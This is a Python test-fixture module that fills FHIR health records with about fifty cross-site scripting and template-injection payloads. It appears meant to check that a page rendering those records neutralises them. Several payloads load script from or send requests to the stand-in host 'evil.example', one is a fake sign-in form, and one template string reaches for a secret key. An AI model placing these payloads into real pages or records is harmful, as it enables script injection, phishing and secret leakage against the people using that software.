"""Ways to make a page of ours run somebody else's script or ask somebody else's server, and records full of
them.

Each says `hit` when it runs, and names `evil.example` when it asks.
"""

import copy
import itertools
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

PAYLOADS = (
    "<script>hit()</script>",
    "<ScRiPt src=//evil.example/a.js></sCrIpT>",
    "</script><script>hit()</script>",
    "<img src=x onerror=hit()>",
    '<img src="https://evil.example/pixel.png">',
    '"><img src=x onerror="hit()">',
    "'><svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:hit()"><text y=20>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=hit()/>#x"></svg>',
    "<body onload=hit()>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()><summary>x</summary></details>",
    "<video><source onerror=hit()></video>",
    '<video poster="https://evil.example/v.png"></video>',
    '<audio src="https://evil.example/a.mp3" autoplay></audio>',
    '<iframe src="javascript:hit()"></iframe>',
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    '<object data="data:text/html,<script>hit()</script>"></object>',
    '<embed src="https://evil.example/e.swf">',
    '<a href="javascript:hit()">Verify your account</a>',
    '<a href="https://evil.example/" ping="https://evil.example/ping">x</a>',
    '<form action="https://evil.example/"><button>Sign in</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<link rel="prefetch" href="https://evil.example/p">',
    "<style>@import 'https://evil.example/a.css';</style>",
    '<p style="background:url(https://evil.example/b.png)">x</p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    "<template><script>hit()</script></template>",
    "<!--><img src=x onerror=hit()>-->",
    "<![CDATA[><img src=x onerror=hit()>]]>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;img src=x onerror=hit()&#62;",
    "javascript:hit()",
    "data:text/html,<script>hit()</script>",
    "{{ 7|add:7 }}{% debug %}{{ settings.SECRET_KEY }}",
    "${hit()}#{hit()}<%= hit() %>",
    '" autofocus onfocus=hit() x="',
    "' onmouseover='hit()' x='",
    "` onclick=hit() `",
    "x\u2028hit()\u2029//",
    "\ufeff<\u200bscript>hit()</script>",
    "＜script＞hit()＜/script＞",
    '<table background="https://evil.example/t.png"><td background="https://evil.example/d.png">x',
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=hit()>",
    "<xss contenteditable onblur=hit() onpointerover=hit() tabindex=1>x</xss>",
)
_KEPT = {"resourceType", "id"}
_WORDS = {
    "display",
    "text",
    "div",
    "name",
    "family",
    "given",
    "title",
    "description",
    "comment",
    "note",
    "unit",
}
Resource = dict[str, Any]


def records_of(folder: Path) -> Iterator[tuple[str, Resource, int]]:
    """FHIR version, resource and how many payloads are in it. Each chart of the folder comes twice: with
    its words replaced, and with every text but its type and id.
    """
    payloads, number = itertools.cycle(PAYLOADS), itertools.count()
    for path in sorted(folder.glob("*/*/*.json")):
        for only in (_WORDS, None):
            resource = copy.deepcopy(json.loads(path.read_bytes()))
            count = [0]
            loaded = _loaded(resource, payloads, only, count)
            loaded |= {"id": f"x-{next(number)}", "text": {"status": "generated", "div": narrative()}}
            yield path.parent.name.upper(), loaded, count[0] + len(PAYLOADS)


def narrative() -> str:
    """A narrative with every payload in it."""
    return '<div xmlns="http://www.w3.org/1999/xhtml">' + " ".join(PAYLOADS) + "</div>"


def _loaded(
    value: Any, payloads: Iterator[str], only: set[str] | None, count: list[int], key: str = ""
) -> Any:
    if isinstance(value, dict):
        return {
            name: one if name in _KEPT else _loaded(one, payloads, only, count, name)
            for name, one in value.items()
        }
    if isinstance(value, list):
        return [_loaded(one, payloads, only, count, key) for one in value]
    if isinstance(value, str) and (only is None or key in only):
        count[0] += 1
        return next(payloads)
    return value
